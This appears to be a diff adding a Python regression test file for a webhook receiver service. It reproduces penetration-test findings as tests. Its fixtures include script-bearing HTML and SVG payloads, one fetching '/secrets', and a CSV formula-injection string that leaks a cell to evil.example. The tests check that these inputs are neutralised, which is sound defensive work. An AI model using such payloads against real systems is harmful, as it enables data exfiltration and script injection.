@@ -1,0 +1,170 @@
+"""Issue 14: each attack that a penetration test reproduced against the receiver, as a test
+that failed before its fix."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import time
+from pathlib import Path
+from typing import Any
+
+from click.testing import CliRunner
+from litestar import Litestar, Response, get
+from litestar.params import FromPath
+from litestar.testing import AsyncTestClient
+
+from receiver.cli import cli
+from receiver.generation import decode_generation
+from receiver.jobs.lifecycle import Observation
+from receiver.jobs.tracker import JobTracker
+from receiver.spend.rules import normalize_row
+from receiver.web.app import create_app
+from receiver.webhooks.signing import sign
+from storage import gateway
+from storage.db import Database
+from storage.types import utcnow
+from tests.conftest import TEST_SECRET, admin_client, make_settings
+from tests.support.aurous import generation
+from tests.support.harness import settings_env
+from tests.support.live_server import live_server
+
+Client = AsyncTestClient[Any]
+
+HOSTILE = {
+    "page.html": ("text/html", b"<script>fetch('/secrets').then(r => r.text())</script>"),
+    "image.svg": (
+        "image/svg+xml",
+        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+    ),
+    "plain.png": ("image/png", b"\x89PNG\r\n\x1a\n" + bytes(64)),
+}
+
+
+@get("/o/{name:str}")
+async def hostile_output(name: FromPath[str]) -> Response[bytes]:
+    media_type, body = HOSTILE[name]
+    return Response(body, media_type=media_type)
+
+
+async def deliver(client: Client, job_id: str, **fields: Any) -> None:
+    body = json.dumps(
+        {"id": f"evt_{job_id}", "type": "image.completed", "data": generation(job_id, **fields)}
+    ).encode()
+    headers = {"Aurous-Webhook-Signature": sign(body, [TEST_SECRET], int(time.time()))}
+    answer = await client.post("/webhooks/aurous", content=body, headers=headers)
+    assert answer.status_code == 200, answer.text
+
+
+async def test_an_output_that_claims_to_be_a_page_is_served_as_an_inert_download(
+    tmp_path: Path, sqlite_url: str
+) -> None:
+    with live_server(Litestar([hostile_output])) as upstream:
+        settings = make_settings(tmp_path / "data", sqlite_url, aurous_base_url=upstream.url)
+        async with admin_client(settings) as client:
+            urls = [f"{upstream.url}/o/{name}" for name in HOSTILE]
+            await deliver(client, "img_hostile", output_urls=urls)
+            await client.app.state.runtime.archiver.run_until_idle()
+            served = [await client.get(f"/jobs/img_hostile/outputs/{n}") for n in range(3)]
+            for digits in ("9" * 5000, "²"):
+                raw = f"bytes={digits}-".encode()
+                ranged = await client.get("/jobs/img_hostile/outputs/2", headers={"Range": raw})
+                assert ranged.status_code in (200, 416), ranged.text
+
+    for answer in served:
+        assert answer.status_code == 200, answer.text
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert answer.headers["content-security-policy"] == "sandbox"
+    page, svg, png = served
+    for opaque in (page, svg):  # never rendered in the dashboard's origin
+        assert opaque.headers["content-type"] == "application/octet-stream"
+        assert opaque.headers["content-disposition"].startswith("attachment")
+    assert png.headers["content-type"] == "image/png"
+    assert "content-disposition" not in png.headers
+
+
+async def test_no_cell_of_a_spend_csv_can_become_a_formula(tmp_path: Path, sqlite_url: str) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
+    settings = make_settings(tmp_path / "data", sqlite_url)
+    db = Database(sqlite_url)
+    try:
+        tracker = JobTracker(db, output_ttl_s=86400)
+        body = generation("img_formula", "succeeded", inference_type=formula)
+        generated = decode_generation(json.dumps(body).encode())
+        await tracker.observe([Observation(generated, "webhook:evt_formula", utcnow())])
+        moves = [
+            {
+                "id": "uev_f1",
+                "type": "hold",
+                "amount": 2,
+                "generation_id": "img_formula",
+                "created_at": "2026-05-04T10:00:00Z",
+            },
+            {
+                "id": "uev_f2",
+                "type": "charge",
+                "amount": -2,
+                "generation_id": "img_formula",
+                "created_at": "2026-05-04T10:00:20Z",
+            },
+        ]
+        entries = [entry for raw in moves if (entry := normalize_row(raw))]
+        await db.write(
+            lambda conn: gateway.upsert_ledger_entries(
+                conn, entries[::-1], first_position=len(entries) - 1, synced_at=utcnow()
+            )
+        )
+    finally:
+        await db.dispose()
+
+    async with admin_client(settings) as client:
+        exported = (await client.get("/spend/export.csv")).text
+    command = ["spend", "report", "--by", "model", "--format", "csv"]
+    reported = await asyncio.to_thread(CliRunner().invoke, cli, command, env=settings_env(settings))
+    assert reported.exit_code == 0, reported.output
+    for text in (exported, reported.output):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert "'" + formula in cells
+        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+async def test_malformed_unauthenticated_input_gets_a_4xx_never_a_500(
+    tmp_path: Path, sqlite_url: str
+) -> None:
+    settings = make_settings(tmp_path / "data", sqlite_url)
+    body = json.dumps({"id": "evt_x", "type": "image.completed", "data": generation()}).encode()
+    async with AsyncTestClient(app=create_app(settings)) as anonymous:
+        huge_t = await anonymous.post(
+            "/webhooks/aurous",
+            content=body,
+            headers={"Aurous-Webhook-Signature": "t=" + "9" * 5000 + ",v1=" + "a" * 64},
+        )
+        assert huge_t.status_code in (400, 401), huge_t.text
+        cookie = {"Cookie": "receiver_session=sésame".encode()}
+        for path in ("/jobs", "/", "/login"):
+            answer = await anonymous.get(path, headers=cookie)
+            assert answer.status_code < 500, (path, answer.text)
+
+
+async def test_malformed_cursors_get_the_error_envelope(tmp_path: Path, sqlite_url: str) -> None:
+    import base64
+
+    naive = base64.urlsafe_b64encode(b"2026-05-04T10:00:00|img_x").decode().rstrip("=")
+    settings = make_settings(tmp_path / "data", sqlite_url)
+    async with admin_client(settings) as client:
+        for path, cursor in [
+            ("/jobs", "²"),
+            ("/jobs", naive),
+            ("/jobs", "9" * 40),
+            ("/spend/ledger", "9" * 40),
+            ("/spend/ledger", "²"),
+            ("/events", "9" * 40),
+            ("/events", "²"),
+            ("/deliveries", "²"),
+        ]:
+            key = "after" if path == "/events" else "cursor"
+            answer = await client.get(path, params={key: cursor})
+            assert answer.status_code == 400, (path, cursor, answer.text)
+            assert answer.json()["error"]["code"] in ("invalid_cursor", "invalid_parameter")
